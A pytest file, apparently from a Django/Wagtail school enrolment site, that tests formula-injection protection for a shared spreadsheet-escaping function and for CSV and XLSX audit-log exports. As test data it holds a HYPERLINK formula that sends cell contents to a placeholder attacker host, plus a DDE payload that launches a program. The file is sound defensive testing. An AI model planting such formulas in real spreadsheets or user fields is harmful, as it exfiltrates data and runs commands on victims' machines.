"""Formula injection: what residents and staff type comes out of every export as text, never as a formula.

Roster exports are in tests/enrolment/test_export_safety.py; here the shared function and the audit log.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from core.spreadsheets import spreadsheet_safe
from tests.factories import UserFactory, course_page

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["张三华", "梨树=果树", "", 3, -2.5, None])
def test_everything_else_is_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_audit_log_exports_names_as_text(client, tree, centre):
    page = course_page(tree["school_a"], title=EVIL)
    editor = UserFactory(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
    log(instance=page, action="wagtail.edit", user=editor)
    client.force_login(centre)
    url = reverse("jizhou_audit_log")

    export = client.get(url, {"action": "wagtail.edit", "export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + EVIL and rows[1][4] == "'" + editor.display_name

    export = client.get(url, {"action": "wagtail.edit", "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    label, user = sheet.cell(row=2, column=2), sheet.cell(row=2, column=5)
    assert label.data_type == "s" and label.value == "'" + EVIL
    assert user.data_type == "s" and user.value == "'" + editor.display_name
